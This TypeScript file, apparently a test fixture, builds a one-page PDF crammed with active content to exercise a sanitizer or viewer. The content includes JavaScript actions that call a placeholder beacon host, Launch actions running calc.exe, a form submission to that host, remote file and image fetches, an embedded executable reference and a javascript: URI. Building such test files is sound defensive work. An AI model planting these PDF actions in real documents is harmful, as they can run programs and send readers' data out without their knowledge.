import { pdfOf } from './pdfOf';

/** Where everything in an active PDF wants to go. */
const BEACON = 'https://beacon.invalid';

/**
 * A PDF of one page that wants to do whatever a PDF can be told to do: run JavaScript, submit a form,
 * follow a link, start a program, open another file, and fetch a picture, at its opening and at a
 * click anywhere on the page.
 *
 * @param text on the page
 * @param label of the page
 */
export function makeActivePdf(text: string, label: string): Uint8Array {
  const script = (name: string) =>
    `<< /S /JavaScript /JS (app.alert\\("${name}"\\); app.launchURL\\("${BEACON}/${name}"\\);) >>`;
  const link = (number: number, action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [0 ${number * 100} 595 ${number * 100 + 99}] /A ${action} >>`;
  const contents = `BT /F1 24 Tf 72 700 Td (${inPdf(text)}) Tj ET q 99 0 0 99 72 400 cm /X1 Do Q`;
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script('open')}
      /AA << /WC << /S /URI /URI (${BEACON}/close) >> /WS ${script('save')} >>
      /Names << /JavaScript << /Names [(go) ${script('named')}] >>
        /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (x.exe) /FS /URL >>] >> >>
      /AcroForm << /Fields [6 0 R] /NeedAppearances true /XFA (<xdp/>) >>
      /PageLabels << /Nums [0 << /P (${inPdf(label)}) >>] >>
      /Outlines 8 0 R /URI << /Base (${BEACON}/) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R
      /Annots [5 0 R 6 0 R 7 0 R 10 0 R 11 0 R]
      /AA << /O << /S /Launch /F (calc.exe) /NewWindow true >> /C ${script('leave')} >>
      /Resources << /XObject << /X1 12 0 R >>
        /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`,
    `<< /Length ${contents.length} >>\nstream\n${contents}\nendstream`,
    link(0, `<< /S /URI /URI (${BEACON}/link) >>`),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (x) /Rect [0 300 595 399]
      /AA << /K ${script('key')} /Fo ${script('focus')} >>
      /A << /S /SubmitForm /F << /FS /URL /F (${BEACON}/submit) >> >> >>`,
    link(1, '<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) /O (open) >> >>'),
    '<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>',
    `<< /Title (${inPdf(label)}) /Parent 8 0 R /A << /S /URI /URI (${BEACON}/outline) >> >>`,
    link(2, `<< /S /GoToR /F << /FS /URL /F (${BEACON}/other.pdf) >> /D [0 /Fit] >>`),
    link(4, '<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8
      /ColorSpace /DeviceGray /Length 0 /F << /FS /URL /F (${BEACON}/picture) >> >>
stream

endstream`,
  ]);
}

/** In a string of a PDF, parentheses and backslashes mean something. */
function inPdf(text: string): string {
  return text.replace(/[()\\]/g, '\\$&');
}
